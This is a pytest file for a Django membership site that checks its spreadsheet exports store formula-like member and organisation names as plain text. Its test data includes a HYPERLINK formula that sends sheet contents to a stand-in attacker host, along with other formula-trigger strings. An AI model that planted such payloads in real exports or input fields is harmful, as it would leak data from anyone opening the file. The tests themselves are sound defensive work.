"""Every spreadsheet the site writes stores text as text (issue 15, finding 2).

A member named ``=HYPERLINK("http://…?"&A1,"Xem hồ sơ")`` was written by the dashboard's member
export as a live formula: opening the file would send the sheet's contents to another site.
``/members/export.xlsx`` already stored it as text; now every writer does, and a control
character in a name no longer makes openpyxl refuse the whole file.
"""

import io

import openpyxl
import pytest
from django.urls import reverse

from members.models import Organisation
from tests.members.factories import MemberFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem hồ sơ")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "#N/A",
]


def workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content))


def cells_holding(book, texts) -> dict:
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in texts:
                    found[cell.value] = cell
    return found


def assert_stored_as_text(book, texts):
    found = cells_holding(book, texts)
    assert set(found) == set(texts), f"missing: {set(texts) - set(found)}"
    formulas = {text: cell.data_type for text, cell in found.items() if cell.data_type != "s"}
    assert not formulas, f"not stored as text: {formulas}"


def test_the_dashboards_member_export_stores_names_as_text(login, world):
    for name in FORMULAS:
        MemberFactory(full_name=name, workplace_org=world.cell, residence_commune=world.commune)
    url = reverse("evaluations:dashboard_export", args=[world.cell.pk])
    assert_stored_as_text(workbook(login(world.secretary).get(url)), FORMULAS)


def test_the_dashboards_table_stores_organisation_names_as_text(login, world):
    for name in FORMULAS:
        OrganisationFactory(name=name, kind=Organisation.Kind.CELL, parent=world.agency)
    url = reverse("evaluations:dashboard_export", args=[world.agency.pk])
    assert_stored_as_text(workbook(login(world.secretary).get(url)), FORMULAS)


def test_the_member_export_stores_names_as_text(login, world):
    for name in FORMULAS:
        MemberFactory(full_name=name, workplace_org=world.cell, residence_commune=world.commune)
    response = login(world.secretary).get(reverse("members:member_export"))
    assert_stored_as_text(workbook(response), FORMULAS)


@pytest.mark.parametrize(
    "url",
    [
        lambda w: reverse("members:member_export"),
        lambda w: reverse("evaluations:dashboard_export", args=[w.cell.pk]),
    ],
    ids=["member_export", "dashboard_export"],
)
def test_a_control_character_in_a_name_does_not_break_the_file(login, world, url):
    MemberFactory(
        full_name="Lê\x07Văn\x1bBình", workplace_org=world.cell, residence_commune=world.commune
    )
    book = workbook(login(world.secretary).get(url(world)))
    assert "LêVănBình" in cells_holding(book, {"LêVănBình"})
